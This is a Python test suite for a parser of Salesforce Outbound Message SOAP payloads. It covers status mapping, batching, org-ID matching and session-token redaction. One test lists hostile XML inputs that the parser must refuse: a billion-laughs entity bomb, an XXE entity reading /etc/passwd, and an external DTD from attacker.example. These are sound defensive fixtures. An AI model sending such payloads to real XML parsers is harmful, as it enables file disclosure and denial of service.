"""Parsing Outbound Messages: the documented format, batches, and hostile input."""

from __future__ import annotations

import contextlib
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from referral_sync.models import CrmObject, ReferralStatus
from referral_sync.program.schema import CrmMapping
from referral_sync.salesforce.outbound import (
    MalformedOutboundMessage,
    parse_outbound_message,
    redact_session_id,
    same_organization,
    to_change_events,
)
from referral_sync.salesforce.status import StatusMapping
from tests.salesforce.fake_org import ORG_ID, FakeOrg

RECEIVED = datetime(2026, 6, 30, 15, 0, tzinfo=UTC)
ENVELOPE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.'
    'xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
    '<soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
    "<OrganizationId>00D5g00000AbCdEEAV</OrganizationId><ActionId>04k5g000000KxYzAAK</ActionId>"
    "{session}{notes}</notifications></soapenv:Body></soapenv:Envelope>"
)
WON = (
    '<Notification><Id>04l5g00000QrStUAAV</Id><sObject xsi:type="sf:Opportunity" '
    'xmlns:sf="urn:sobject.enterprise.soap.sforce.com"><sf:Id>0065g00000LmNoPAAV</sf:Id>'
    "<sf:AccountId>0015g00000AaBbCAAV</sf:AccountId><sf:Amount>48000.0</sf:Amount>"
    "<sf:CloseDate>2026-06-30</sf:CloseDate><sf:IsClosed>true</sf:IsClosed>"
    "<sf:IsWon>true</sf:IsWon><sf:LastModifiedDate>2026-06-30T14:05:11.000Z</sf:LastModifiedDate>"
    "<sf:OwnerId>0055g00000DdEeFAAV</sf:OwnerId><sf:Referral_Id__c>ref-42</sf:Referral_Id__c>"
    "<sf:StageName>Closed Won</sf:StageName>"
    "<sf:SystemModstamp>2026-06-30T14:05:12.000Z</sf:SystemModstamp></sObject></Notification>"
)
LEAD = (
    '<Notification><Id>{id}</Id><sObject xsi:type="sf:Lead" '
    'xmlns:sf="urn:sobject.enterprise.soap.sforce.com"><sf:Id>00Q5g00000JjKkLAAV</sf:Id>'
    "<sf:IsConverted>false</sf:IsConverted><sf:OwnerId>00G5g000003QqRrEAK</sf:OwnerId>"
    '<sf:Referral_Disqualified_Reason__c xsi:nil="true"/>'
    "<sf:Referral_Id__c>ref-7</sf:Referral_Id__c><sf:Referral_Status__c>{referral_status}"
    "</sf:Referral_Status__c><sf:Status>{status}</sf:Status></sObject></Notification>"
)


def message(notes: str, session: str = '<SessionId xsi:nil="true"/>') -> bytes:
    return ENVELOPE.format(session=session, notes=notes).encode()


def lead(status: str = "Working - Contacted", referral_status: str = "Submitted",
         note_id: str = "04l5g00000QrSuWAAV") -> str:
    return LEAD.format(id=note_id, status=status, referral_status=referral_status)


def test_closed_won_opportunity_becomes_a_closed_won_event() -> None:
    parsed = parse_outbound_message(message(WON))

    (event,) = to_change_events(parsed, StatusMapping(), RECEIVED)

    assert parsed.organization_id == "00D5g00000AbCdEEAV"
    assert (event.event_id, event.object_type, event.record_id) == (
        "04l5g00000QrStUAAV", CrmObject.OPPORTUNITY, "0065g00000LmNoPAAV")
    assert (event.status, event.amount, event.referral_id) == (
        ReferralStatus.CLOSED_WON, Decimal("48000.0"), "ref-42")
    assert event.occurred_at == datetime(2026, 6, 30, 14, 5, 12, tzinfo=UTC)
    assert event.fields["StageName"] == "Closed Won"


@pytest.mark.parametrize(("status", "referral_status", "expected"), [
    ("Open - Not Contacted", "Submitted", ReferralStatus.SUBMITTED),
    ("Working - Contacted", "Qualified", ReferralStatus.QUALIFIED),
    ("Working - Contacted", "Disqualified", ReferralStatus.DISQUALIFIED),
    ("Closed - Not Converted", "Submitted", ReferralStatus.DISQUALIFIED),
    ("Working - Contacted", "Nurture", ReferralStatus.NURTURE),
])
def test_lead_status_implied_by_referral_status_and_lead_status(
        status: str, referral_status: str, expected: ReferralStatus) -> None:
    parsed = parse_outbound_message(message(lead(status, referral_status)))

    (event,) = to_change_events(parsed, StatusMapping(), RECEIVED)

    assert event.status is expected
    assert "Referral_Disqualified_Reason__c" not in event.fields  # nil fields are absent
    assert event.occurred_at == RECEIVED  # no timestamp sent: when it arrived


def test_converted_lead_implies_opportunity_and_mapping_is_configurable() -> None:
    converted = lead().replace("<sf:IsConverted>false", "<sf:IsConverted>true").replace(
        "</sObject>", "<sf:ConvertedOpportunityId>0065g00000LmNoPAAV"
        "</sf:ConvertedOpportunityId></sObject>")
    bad_timing = lead("Closed - Bad Timing", note_id="04l5g00000QrSuXAAV")
    statuses = StatusMapping.from_mapping(
        CrmMapping(status_values={"Closed - Bad Timing": ReferralStatus.NURTURE}))

    events = to_change_events(parse_outbound_message(message(converted + bad_timing)),
                              statuses, RECEIVED)

    assert [e.status for e in events] == [ReferralStatus.OPPORTUNITY, ReferralStatus.NURTURE]


def test_a_hundred_notifications_in_one_message(org: FakeOrg) -> None:
    ids = [org.add("Lead", LastName=f"L{n}", Company="C", Referral_Id__c=f"ref-{n}")
           for n in range(100)]
    raw = org.outbound_message("Lead", ids)

    events = to_change_events(parse_outbound_message(raw), StatusMapping(), RECEIVED)

    assert len(events) == 100 and len({e.event_id for e in events}) == 100
    assert [e.referral_id for e in events] == [f"ref-{n}" for n in range(100)]
    with pytest.raises(MalformedOutboundMessage, match="more than 100"):
        parse_outbound_message(message(lead() * 101))


def test_untracked_objects_are_ignored() -> None:
    case = WON.replace('xsi:type="sf:Opportunity"', 'xsi:type="sf:Case"')

    assert to_change_events(parse_outbound_message(message(case)), StatusMapping(),
                            RECEIVED) == []


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">"
    b"<soapenv:Body>&lol3;</soapenv:Body></soapenv:Envelope>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<foo>&xxe;</foo>"
)


@pytest.mark.parametrize("raw", [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
    message(WON)[:-40],
    b"",
    b"\xff\xfe\x00garbage",
    b"<notifications/>",
    message(""),
    message(WON).replace(b"00D5g00000AbCdEEAV", b""),
    message(WON).replace(b"<Id>04l5g00000QrStUAAV</Id>", b""),
    message(WON).replace(b'xsi:type="sf:Opportunity"', b""),
    b"<a>" * 100_000,
], ids=["billion-laughs", "xxe", "external-dtd", "truncated", "empty", "binary", "not-soap",
        "no-notifications", "no-org", "no-notification-id", "no-type", "deep-nesting"])
def test_hostile_or_broken_bodies_are_refused_cleanly(raw: bytes) -> None:
    with pytest.raises(MalformedOutboundMessage):
        parse_outbound_message(raw)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000) | st.text(max_size=500).map(lambda t: message(t)))
def test_the_parser_never_fails_any_other_way(raw: bytes) -> None:
    with contextlib.suppress(MalformedOutboundMessage):
        parse_outbound_message(raw)


def test_organization_ids_match_on_the_first_15_characters() -> None:
    assert same_organization(ORG_ID, ORG_ID[:15])
    assert same_organization(ORG_ID[:15], ORG_ID)
    assert not same_organization(ORG_ID, "00D5g00000AbCdF" + "EAV")
    assert not same_organization(ORG_ID, ORG_ID.lower())  # 15-character ids are case-sensitive
    assert not same_organization("", "")


def test_session_id_is_blanked_before_storage() -> None:
    raw = message(WON, session="<SessionId>00D5g!AQ4AQLiveSessionToken</SessionId>")

    redacted = redact_session_id(raw)

    assert b"LiveSessionToken" not in redacted
    assert parse_outbound_message(redacted).notifications[0].id == "04l5g00000QrStUAAV"
